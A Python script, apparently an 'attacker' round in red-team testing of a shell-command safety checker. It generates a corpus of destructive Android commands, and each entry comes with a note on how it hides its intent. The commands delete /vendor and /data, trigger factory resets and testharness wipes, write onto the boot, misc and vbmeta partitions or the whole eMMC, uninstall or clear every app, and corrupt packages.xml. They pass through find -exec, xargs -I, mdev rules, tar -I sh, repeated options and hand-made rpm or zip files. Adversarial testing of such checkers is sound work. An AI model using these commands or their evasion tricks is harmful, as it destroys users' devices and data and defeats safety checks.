#!/usr/bin/env python3
"""Round 5, attacker B: writes corpus.jsonl. Command text lives here as Python data only."""
import io, json, pathlib, zipfile

HERE = pathlib.Path(__file__).resolve().parent


def octal(data: bytes) -> str:
    """printf-safe text for binary data (3-digit octal escapes)."""
    return "".join("\\%03o" % c if (c < 32 or c > 126 or chr(c) in "\\'%") else chr(c) for c in data)


def zip_of(name: str, body: str) -> str:
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        z.writestr(zipfile.ZipInfo(name), body)
    return octal(b.getvalue())


# rpm: 96-byte lead (not checked), empty signature header, main header with one tag:
# SOURCERPM (1044, STRING) = "x.src.rpm", which makes busybox `rpm -i` chdir("/") first.
RPM_HDR = (r"\216\255\350\001\0\0\0\0\0\0\0\0\0\0\0\0"
           r"\216\255\350\001\0\0\0\0\0\0\0\1\0\0\0\012"
           r"\0\0\004\024\0\0\0\006\0\0\0\0\0\0\0\1x.src.rpm\0")


def rpm_line(stage: str, top: str, rel: str, body: str, out: str) -> str:
    return (f"cd /data/local/tmp && mkdir -p {stage}/{rel.rsplit('/', 1)[0]} && echo '{body}' > {stage}/{rel} && "
            f"cd {stage} && {{ head -c 96 /dev/zero; printf '{RPM_HDR}'; find {top} | cpio -o -H newc | gzip; }} > ../{out} && "
            f"cd .. && busybox rpm -i {out}")


L = []


def add(family, cmd, note, shells=None, why=None):
    d = {"family": family, "cmd": cmd, "note": note}
    if shells:
        d["shells"] = shells
        d["shells_why"] = why
    L.append(d)


# ---- T1: find -exec with {} as the program name -------------------------------------------
add("runner", r"find /system/bin -name rm -exec {} -rf /vendor \;",
    "find -exec with {} as the COMMAND: find locates /system/bin/rm and runs it as `rm -rf /vendor`; the word rm is only a -name pattern")
add("wipe", r"find /system/bin -name 'c?d' -exec {} testharness enable \;",
    "find -exec {} as the program: the glob c?d selects /system/bin/cmd, so this is `cmd testharness enable` (wipes accounts and data)")
add("user", r"find /system/bin -maxdepth 1 -name pm -exec {} remove-user 10 \;",
    "find -exec {} as the program: runs /system/bin/pm remove-user 10; the program name is only a search pattern")
add("runner", r"find /system/bin -name rm -execdir {} -rf /data/misc \;",
    "toybox find -execdir with {} as the program: runs ./rm from /system/bin on /data/misc (system state)",
    ["mksh"], "busybox sh runs its own find applet, which has no -execdir; toybox find (mksh's PATH) has it")

# ---- T2: xargs -I where the program itself comes from stdin --------------------------------
add("runner", r"echo rm | xargs -I{} {} -rf /vendor",
    "xargs -I{} substitutes the input line into the program position too: the command is `rm -rf /vendor`, with rm arriving as data")
add("wipe", r"printf 'am\n' | xargs -I% % broadcast -a android.intent.action.MASTER_CLEAR",
    "xargs -I% with % as the program: am comes from the pipe, xargs runs `am broadcast -a …MASTER_CLEAR`")
add("block", r"echo dd | xargs -I@ @ if=/dev/zero of=/dev/block/by-name/userdata count=1",
    "xargs -I@ makes the input line the program: dd arrives on stdin and zeroes the start of userdata")

# ---- T3: busybox mdev as a hotplug helper: /etc/mdev.conf + ACTION/DEVPATH env -------------
add("runner", "printf '.* 0:0 660 @rm -rf /vendor\\n' > /etc/mdev.conf; ACTION=add DEVPATH=/devices/virtual/block/x SUBSYSTEM=block busybox mdev",
    "busybox mdev run bare is the kernel hotplug helper: it reads ACTION/DEVPATH from the environment and /etc/mdev.conf, whose '@PROG' field it runs through the shell for a matching device")
add("wipe", "printf 'SUBSYSTEM=block;.* 0:0 660 @cmd testharness enable\\n' > /etc/mdev.conf; ACTION=add DEVPATH=/devices/virtual/block/loop7 SUBSYSTEM=block busybox mdev",
    "mdev rule with an environment-regex prefix (SUBSYSTEM=block;): a faked 'add' event runs cmd testharness enable from the config file")
add("user", "printf '.* 0:0 660 $pm remove-user 10\\n' > /etc/mdev.conf; ACTION=remove DEVPATH=/devices/virtual/block/loop7 SUBSYSTEM=block busybox mdev",
    "mdev '$PROG' runs before a device is removed: ACTION=remove in the environment makes mdev run pm remove-user 10")
add("package", "printf '.* 0:0 660 *ls /data/user_de/0 | xargs -n1 pm clear\\n' > /etc/mdev.conf; ACTION=add DEVPATH=/block/zram0 busybox mdev",
    "mdev '*PROG' (run on add and remove): clears every app named by the device-encrypted data folders")

# ---- T4: toybox oneit -------------------------------------------------------------------------
add("runner", "toybox oneit -c /dev/null /system/bin/rm -rf /data/app",
    "toybox oneit (a one-command init) runs its argv after opening the console given by -c; not on any runner list")
add("wipe", "toybox oneit -c /dev/null am broadcast -a android.intent.action.FACTORY_RESET -p android",
    "toybox oneit as a runner for the FACTORY_RESET broadcast")
add("user", "toybox oneit -c /dev/null cmd user remove-user 10",
    "toybox oneit as a runner for cmd user remove-user")

# ---- T5: toybox tar -I PROG: the archive is piped into PROG ----------------------------------
add("runner", "cd /data/local/tmp && printf '\\nrm -rf /vendor\\n' > '#' && tar -cf /dev/null -I sh '#'",
    "toybox tar -I PROG pipes the archive being created through PROG as its 'compressor'. With PROG=sh the tar stream is a script: the member is named '#', so the 512-byte header is a comment line and the member's text (rm -rf /vendor) runs")
add("wipe", "cd /data/local/tmp && printf '\\ncmd testharness enable\\n' > '# notes' && tar -cf notes.tgz -I /system/bin/sh '# notes'",
    "toybox tar -I /system/bin/sh: 'compressing' notes runs them; the header starts with '# notes', a comment")
add("package", "cd /data/local/tmp && printf '\\npm list packages -3 | cut -d: -f2 | xargs -n1 pm uninstall\\n' > '#todo' && tar -cf - -I sh '#todo' >/dev/null",
    "toybox tar -I sh runs the member's text: uninstalls every third-party package listed by the device")

# ---- T6: busybox syslogd -O: the log file is a system file ----------------------------------
add("writer", "busybox syslogd -n -O /data/system/packages.xml & sleep 1; kill $!",
    "busybox syslogd -O FILE logs to FILE: its 'syslogd started' line is appended to packages.xml, which then no longer parses (the package database is lost)")
add("writer", "busybox syslogd -n -S -O /data/misc/wifi/WifiConfigStore.xml & sleep 1; kill $!",
    "busybox syslogd -O appends its log to the Wi-Fi config store in /data/misc")
add("writer", "busybox syslogd -n -O /data/system/users/0.xml & sleep 1; kill $!",
    "busybox syslogd -O appends log lines to user 0's record in /data/system")

# ---- T7: busybox crond -L: the log file is a system file -------------------------------------
add("writer", "busybox crond -f -L /system/framework/framework.jar -c /data/local/tmp & sleep 1; kill $!",
    "busybox crond -L FILE: its startup message is appended to framework.jar (a zip, now with trailing junk)")
add("writer", "busybox crond -f -l 0 -L /data/system/packages.xml -c /data/local/tmp & sleep 1; kill $!",
    "busybox crond -L appends its log to packages.xml")

# ---- T8: busybox udhcpd: the config file names the pidfile -----------------------------------
add("block", "printf 'interface wlan0\\npidfile /dev/block/by-name/misc\\n' > /data/local/tmp/u.conf; busybox udhcpd -f /data/local/tmp/u.conf",
    "udhcpd reads its pidfile path from its config file and writes its pid before opening any socket: the pid lands on the misc partition (the bootloader message)")
add("writer", "printf 'interface wlan0\\nlease_file /data/local/tmp/leases\\npidfile /data/system/packages.xml\\n' > /data/local/tmp/dhcpd.conf; busybox udhcpd -f /data/local/tmp/dhcpd.conf",
    "udhcpd config 'pidfile' line: packages.xml is truncated to a pid; no path on the command line is a system one")
add("writer", "printf 'interface wlan0\\npidfile /etc/hosts\\n' > /data/local/tmp/d.conf; busybox udhcpd -f /data/local/tmp/d.conf",
    "udhcpd config 'pidfile' over /etc/hosts, which on Android is /system/etc/hosts (the /etc link)")

# ---- T9: busybox watchdog writes to its device ----------------------------------------------
add("block", "busybox watchdog -F -t 1 /dev/block/by-name/misc & sleep 1; kill $!",
    "busybox watchdog 'pokes' DEV by writing a byte to it every -t seconds and writes 'V' when it stops; DEV here is the misc partition")
add("block", "busybox watchdog -F -T 60 -t 1 /dev/block/by-name/boot & sleep 1; kill $!",
    "busybox watchdog on the boot partition: its keep-alive writes land on the kernel image header")
add("block", "busybox watchdog -F -t 500ms /dev/block/mmcblk0 & sleep 1; kill $!",
    "busybox watchdog on the whole eMMC: writes over the partition table sector")

# ---- T10: busybox rpm -i of a hand-made rpm --------------------------------------------------
add("archive", rpm_line("st", "system", "system/build.prop", "ro.x=1", "upd.rpm"),
    "busybox rpm -i extracts the cpio payload after chdir(/) because the header has a SOURCERPM tag, replacing existing files; the rpm is assembled with printf around a gzipped cpio of system/build.prop")
add("wipe", rpm_line("rc", "cache", "cache/recovery/command", "--wipe_data", "ota.rpm"),
    "busybox rpm -i installs cache/recovery/command (--wipe_data) into / from a hand-made rpm: a factory reset at the next recovery boot")
add("archive", rpm_line("pk", "data", "data/system/packages.xml", "<packages/>", "p.rpm"),
    "busybox rpm -i replaces /data/system/packages.xml from a hand-made rpm (no path in the command names /data/system except the staging copy)")

# ---- T11: toybox cp -D / --parents: source path recreated under DEST -------------------------
add("writer", "cd /data/local/tmp && mkdir -p st/system/framework && : > st/system/framework/framework.jar && cd st && toybox cp -D system/framework/framework.jar /",
    "toybox cp -D (--parents) recreates the SOURCE's relative path under DEST: the destination is only '/', the victim is named by the scratch path")
add("writer", "cd /data/local/tmp && mkdir -p q/data/system && echo '<x/>' > q/data/system/packages.xml && cd q && toybox cp --parents data/system/packages.xml /",
    "toybox cp --parents: the relative source data/system/packages.xml is written at /data/system/packages.xml")
add("wipe", "cd /data/local/tmp && mkdir -p r/cache/recovery && echo --wipe_data > r/cache/recovery/command && cd r && /system/bin/cp -D cache/recovery/command /",
    "toybox cp -D onto /: writes /cache/recovery/command with --wipe_data")
add("writer", "cd /data/local/tmp && mkdir -p st/product && echo ro.x=1 > st/product/build.prop && cp -r st/. /",
    "cp -r STAGE/. / copies the staging folder's contents over the root: product/build.prop replaces /product/build.prop")

# ---- T12: repeated option or operand: the last one wins --------------------------------------
add("block", "dd if=/dev/zero of=/data/local/tmp/out count=1 of=/dev/block/by-name/boot",
    "dd takes of= twice and the last one wins: the first of= (a scratch file) is what a reader sees, the boot partition is written")
add("writer", "mkdir -p /data/local/tmp/bk; cd /data/local/tmp && : > framework.jar && cp -t /data/local/tmp/bk -t /system/framework framework.jar",
    "cp -t given twice: the second target directory wins, so the empty framework.jar replaces the system one")
add("writer", "cd /data/local/tmp && mkdir -p o/vendor && echo x > o/vendor/build.prop && tar -cf o.tar -C o vendor && tar -C /data/local/tmp/out -C / -xf o.tar",
    "tar -C twice: the last -C (/) is where it extracts, replacing /vendor/build.prop")
add("writer", "sort -o /data/local/tmp/s.txt -o /data/system/packages.xml /dev/null",
    "toybox sort -o twice: the last output file wins and packages.xml is truncated",
    ["mksh"], "busybox sh runs its own sort applet, which rejects a second -o; toybox sort (mksh's PATH) takes the last")

# ---- T12b: a later flag cancels an earlier safety flag ---------------------------------------
add("runner", "yes n | rm -ri /vendor -f",
    "rm -i with every answer 'n' looks safe, but a later -f cancels -i (POSIX: the last of -f/-i wins), so /vendor is deleted without asking")
add("writer", "cd /data/local/tmp && mkdir -p o/vendor && echo x > o/vendor/build.prop && tar -cf o.tar -C o vendor && tar -xk --overwrite -f o.tar -C /",
    "tar -k (keep existing files) is cancelled by the later --overwrite: /vendor/build.prop is replaced")

# ---- T13: old-style bundled tar options take their arguments in letter order -----------------
add("writer", "cd /data/local/tmp && mkdir -p o/vendor && echo x > o/vendor/build.prop && tar cf o.tar -C o vendor && tar xCf / o.tar",
    "old-style bundled tar letters take their arguments in order: in `tar xCf / o.tar`, C takes / and f takes o.tar (a reader may read / as the archive)")
add("block", "cd /data/local/tmp && tar cfC /dev/block/by-name/misc /data/local/tmp log.txt",
    "`tar cfC A B` gives A to f and B to C: the archive is written onto the misc partition, while the words look like a source and a directory")
add("block", "cd /data/local/tmp && tar cvfC /dev/block/by-name/vbmeta . logs",
    "bundled `cvfC`: f takes the vbmeta partition as the archive, C takes '.'")

# ---- T14: options after the operands ---------------------------------------------------------
add("runner", "rm /data/local/tmp/old.log /vendor -rf",
    "toybox and busybox rm take options after operands (GNU-style permutation): `rm FILE /vendor -rf` is recursive, though a reader stops at the first operand")
add("storage", "rm /data/local/tmp/build /sdcard/Download -f -r",
    "rm with -f -r after the operands: recursive delete of the whole Download folder, though it reads like a non-recursive rm of two names")

# ---- T15: find following symlinks (-L, -H, -follow) ------------------------------------------
add("storage", "find -L /sdcard -type f -exec rm {} +",
    "find -L follows /sdcard (a symlink) and every link below it; without -L find does not descend into the link at all, so this reads as a no-op")
add("app-data", "find -H /data/user/0 -mindepth 1 -maxdepth 1 -exec rm -rf {} +",
    "find -H follows the command-line symlink /data/user/0 -> /data/data and removes every app's data")
add("storage", "find /storage/self/primary -follow -type f -exec rm {} +",
    "busybox find -follow (GNU spelling of -L) descends through the /storage/self/primary link and deletes every file of the storage",
    ["busybox"], "toybox find (mksh's PATH) has no -follow; busybox sh runs its own find applet, which has it")
add("storage", "find -L /mnt/sdcard -mindepth 1 -delete",
    "toybox find -L through /mnt/sdcard -> /sdcard -> … -> /data/media/0: -delete empties the storage",
    ["mksh"], "busybox find has no -delete (busybox sh runs its own find); toybox find has it")

# ---- T16: /data/user_de/0 as the package set source ------------------------------------------
add("package", "ls /data/user_de/0 | xargs -n1 pm clear",
    "package set from the device-encrypted data folders (/data/user_de/0), not pm list or /data/data: clears every app")
add("package", "for a in /data/user_de/0/*; do cmd package uninstall -k \"${a##*/}\"; done",
    "package set from a glob over /data/user_de/0: uninstalls every app with data there")

# ---- T17: busybox unzip -d / of a hand-made zip ---------------------------------------------
add("archive", "cd /data/local/tmp && printf '%s' > u.zip && busybox unzip -o u.zip -d /" % zip_of("system/build.prop", "ro.x=1\n"),
    "busybox unzip -o -d / of a zip written by printf: system/build.prop is replaced; no system path appears in clear text except inside the printf")
add("wipe", "cd /data/local/tmp && printf '%s' > r.zip && busybox unzip -o -q r.zip -d /" % zip_of("cache/recovery/command", "--wipe_data\n"),
    "busybox unzip -d / of a printf-built zip whose member is cache/recovery/command (--wipe_data)")

(HERE / "corpus.jsonl").write_text("".join(json.dumps(d) + "\n" for d in L))
print(len(L), "lines")

U = [{"family": "block",
      "cmd": "mkdir -p /data/local/tmp/www && echo x > /data/local/tmp/www/img && busybox httpd -p 127.0.0.1:8080 -h /data/local/tmp/www && busybox wget -q -O /dev/block/by-name/boot http://127.0.0.1:8080/img",
      "note": "busybox wget -O FILE as a writer: the device serves itself a file over loopback and wget writes it onto the boot partition",
      "sandbox": "skip",
      "why": "the sandbox's network namespace has lo down and `ip link set lo up` is refused (SIOCSIFFLAGS: EPERM), so nothing listens on 127.0.0.1"}]
(HERE / "unprovable.jsonl").write_text("".join(json.dumps(d) + "\n" for d in U))
